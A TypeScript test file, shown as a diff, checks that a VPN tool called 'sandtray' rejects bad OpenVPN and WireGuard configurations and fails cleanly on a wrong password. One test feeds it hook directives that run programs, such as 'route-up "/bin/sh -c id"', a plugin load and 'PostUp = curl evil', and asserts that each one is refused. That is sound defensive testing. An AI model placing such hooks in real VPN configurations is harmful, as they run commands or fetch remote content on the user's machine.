@@ -1,0 +1,112 @@
+// Bad VPN configurations fail clearly and leave nothing behind: a missing file, directives that
+// run programs, and a wrong password (FAILED once, no retry storm).
+import assert from 'node:assert/strict';
+import fs from 'node:fs';
+import path from 'node:path';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { after, before, describe, it } from 'node:test';
+import { sandtrayEnv, writeProfile, type Env } from '../lib/sandtray.js';
+import { startKeyring, type Keyring } from '../lib/keyring.js';
+import { labLog, startOvpnServer, stopAllLab, type OvpnServer } from '../lib/vpn-lab.js';
+import { vpnStatus, waitVpn } from '../lib/vpn-wait.js';
+import { helper } from '../lib/vpn-capture.js';
+
+function processesMentioning(marker: string): string[] {
+  const out: string[] = [];
+  for (const d of fs.readdirSync('/proc')) {
+    if (!/^\d+$/.test(d)) continue;
+    try {
+      const c = fs.readFileSync(`/proc/${d}/cmdline`, 'utf8');
+      if (c.includes(marker)) out.push(`${d}: ${c.replace(/\0/g, ' ')}`);
+    } catch {
+      // gone
+    }
+  }
+  return out;
+}
+
+describe('bad VPN configurations', { timeout: 300_000 }, () => {
+  let e: Env;
+  let keyring: Keyring;
+  let server: OvpnServer;
+
+  before(async () => {
+    keyring = await startKeyring();
+    e = sandtrayEnv('vpn-bad');
+    e.env['DBUS_SESSION_BUS_ADDRESS'] = keyring.address;
+    server = await startOvpnServer('bad', '198.18.60.2', { proto: 'tcp', subnet: '10.8.0', redirectGateway: true, user: { name: 'carol', password: 'right' }, token: 'bad-server', dnsName: 'x.vpn.test' });
+  });
+  after(async () => {
+    await e?.cleanup();
+    await server?.stop();
+    await stopAllLab();
+    await keyring?.stop();
+  });
+
+  it('a missing file is named in the error', async () => {
+    const r = await e.run(['vpn', 'import', path.join(e.dir, 'nope.ovpn')]);
+    assert.equal(r.exitCode, 1);
+    assert.match(r.stderr, /nope\.ovpn does not exist/);
+    const prof = writeProfile(e, 'gone', `apiVersion: sandtray/v1\nnetwork:\n  mode: vpn\n  vpn: {type: openvpn, config: ${e.dir}/gone.ovpn}\n`);
+    const c = await e.run(['create', 'gone', '--profile', prof]);
+    assert.equal(c.exitCode, 1);
+    assert.match(c.stderr, /gone\.ovpn does not exist/);
+  });
+
+  it('a config removed after import fails the start and leaves nothing running', async () => {
+    const file = path.join(e.dir, 'later.ovpn');
+    fs.writeFileSync(file, server.clientConfig());
+    await e.ok(['vpn', 'import', file]);
+    fs.rmSync(path.join(e.env['XDG_CONFIG_HOME']!, 'sandtray', 'vpn', 'later.ovpn'));
+    const r = await e.run(['start', 'later']);
+    assert.equal(r.exitCode, 1);
+    assert.match(r.stderr, /later\.ovpn does not exist/);
+    assert.match(await e.ok(['info', 'later']), /State: +STOPPED/);
+    assert.deepEqual(processesMentioning(path.join(e.env['XDG_RUNTIME_DIR']!, 'sandtray', 'later')), []);
+  });
+
+  it('directives that run programs are refused by name, and nothing is created', async () => {
+    const file = path.join(e.dir, 'scripts.ovpn');
+    fs.writeFileSync(file, server.clientConfig(['script-security 2', 'up /bin/true', 'route-up "/bin/sh -c id"', 'plugin /usr/lib/x.so']));
+    const r = await e.run(['vpn', 'import', file]);
+    assert.equal(r.exitCode, 1);
+    for (const d of ['script-security', 'up', 'route-up', 'plugin']) assert.match(r.stderr, new RegExp(`"${d}" at line`));
+    assert.equal(JSON.parse(await e.ok(['list', '--json'])).filter((s: { name: string }) => s.name === 'scripts').length, 0);
+    assert.ok(!fs.existsSync(path.join(e.env['XDG_CONFIG_HOME']!, 'sandtray', 'profiles', 'scripts.sandtray')));
+    const wg = path.join(e.dir, 'hook.conf');
+    fs.writeFileSync(wg, '[Interface]\nPrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=\nAddress = 10.9.0.2/24\nPostUp = curl evil\n[Peer]\nPublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=\nAllowedIPs = 0.0.0.0/0\n');
+    const w = await e.run(['vpn', 'import', wg]);
+    assert.equal(w.exitCode, 1);
+    assert.match(w.stderr, /"PostUp" at line 4/);
+  });
+
+  it('a wrong password ends in FAILED with a clear message, once', async () => {
+    const file = path.join(e.dir, 'wrong.ovpn');
+    fs.writeFileSync(file, server.clientConfig());
+    await e.ok(['vpn', 'import', file]);
+    await e.ok(['secret', 'set', 'wrong', 'username'], { input: 'carol' });
+    await e.ok(['secret', 'set', 'wrong', 'password'], { input: 'wrong' });
+    const before = labLog(server.ns, 'openvpn.log').split('\n').filter((l) => /TLS Auth Error|verification failed/i.test(l)).length;
+    await e.ok(['start', 'wrong']);
+    const st = await waitVpn(e, 'wrong', 'failed', 30_000);
+    assert.match(String(st.message), /authentication failed: the server refused the user name or password/);
+    assert.match(String(st.message), /sandtray secret set wrong password/);
+    const client = helper(e, 'wrong', 'openvpn');
+    // No retry storm: the client gave up after one refusal and stays down.
+    await sleep(6000);
+    assert.equal((await vpnStatus(e, 'wrong')).state, 'failed');
+    let alive = true;
+    try {
+      process.kill(client.pid, 0);
+    } catch {
+      alive = false;
+    }
+    assert.equal(alive, false, 'the OpenVPN client exited');
+    const attempts = labLog(server.ns, 'openvpn.log').split('\n').filter((l) => /TLS Auth Error|verification failed/i.test(l)).length - before;
+    assert.ok(attempts >= 1 && attempts <= 2, `one refused attempt at the server, saw ${attempts}`);
+    const human = await e.run(['vpn', 'status', 'wrong']);
+    assert.equal(human.exitCode, 1);
+    assert.match(human.stdout, /State: +failed/);
+    await e.ok(['stop', 'wrong']);
+  });
+});
